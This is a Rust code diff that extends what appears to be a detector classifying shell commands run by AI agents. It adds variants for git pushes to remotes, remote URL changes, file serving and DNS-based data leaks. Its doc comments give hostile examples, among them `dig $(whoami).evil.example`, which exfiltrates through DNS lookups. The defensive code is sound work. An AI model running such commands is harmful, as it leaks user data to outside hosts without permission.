@@ -335,6 +335,23 @@ pub enum Payload {
     /// The repository's commits, pushed to a URL named on the line instead of a configured
     /// remote (`git push https://host/x.git`).
     PushUrl(String),
+    /// The repository's commits, pushed to the configured remote of this name (`git push
+    /// origin`; a push naming no remote goes to `origin`).
+    PushRemote(String),
+    /// A DNS name built from data (`dig $(whoami).evil.example`), looked up: the resolvers on
+    /// the way hand it to the servers of `domain`, whoever runs them, so the name is the
+    /// message.
+    Name { name: String, domain: String },
+}
+
+/// A git remote a command points at a URL (`git remote add NAME URL`, `git remote set-url
+/// NAME URL`, `git config remote.NAME.url URL`).
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub struct Remote {
+    pub name: String,
+    pub url: String,
+    /// The remote is new (`git remote add`), not changed.
+    pub added: bool,
 }
 
 /// A local file a send carries.
@@ -514,16 +531,21 @@ pub enum Effect {
     Fetch { url: String, host: Option<String> },
     /// Signals or kills processes.
     Signal { target: String },
-    /// Changes configuration that later runs code (git config, shell start-up files,
-    /// package-manager config).
+    /// Changes configuration that later runs code or sends data (git config, a git remote,
+    /// shell start-up files, package-manager config).
     Configure {
         what: String,
         /// The config file changed and the text the change adds to it, when known statically
         /// (`git config [--global|--file F] KEY VALUE`): the ledger records it as a write.
         adds: Option<(PathBuf, String)>,
+        /// The git remote the change points at a URL, if it does.
+        remote: Option<Remote>,
     },
     /// Starts another agent (`claude -p`, `codex exec`…).
     StartAgent { program: String },
+    /// Serves the files under `root` over the network (`python3 -m http.server`, `php -S`,
+    /// `npx http-server DIR`): whoever reaches the port reads them.
+    Serve { root: PathBuf, program: String },
 }
 
 impl Effect {
@@ -534,7 +556,8 @@ impl Effect {
             | Effect::List { path }
             | Effect::Write { path, .. }
             | Effect::Create { path }
-            | Effect::Chmod { path, .. } => vec![path],
+            | Effect::Chmod { path, .. }
+            | Effect::Serve { root: path, .. } => vec![path],
             Effect::Delete { target, .. } => match target {
                 DeleteTarget::Named { path, .. } => path.iter().collect(),
                 DeleteTarget::Stdin { listed } => {
@@ -560,7 +583,8 @@ impl Effect {
             | Effect::List { path }
             | Effect::Write { path, .. }
             | Effect::Create { path }
-            | Effect::Chmod { path, .. } => f(path),
+            | Effect::Chmod { path, .. }
+            | Effect::Serve { root: path, .. } => f(path),
             Effect::Delete { target, .. } => match target {
                 DeleteTarget::Named { path, .. } => path.iter_mut().for_each(f),
                 DeleteTarget::Stdin { listed } => listed
